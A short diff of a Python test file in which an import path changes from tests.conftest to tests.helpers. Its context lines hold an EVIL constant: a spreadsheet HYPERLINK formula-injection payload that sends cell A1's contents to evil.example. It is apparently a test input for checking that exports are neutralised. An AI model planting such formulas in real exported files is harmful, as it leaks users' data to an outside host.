@@ -11,7 +11,7 @@ import pytest
 
 from core.exports import SafeWriter, neutral, open_private
 from graph.db import Graph
-from tests.conftest import Neo4jTarget
+from tests.helpers import Neo4jTarget
 from tests.scoring.test_screening import world
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
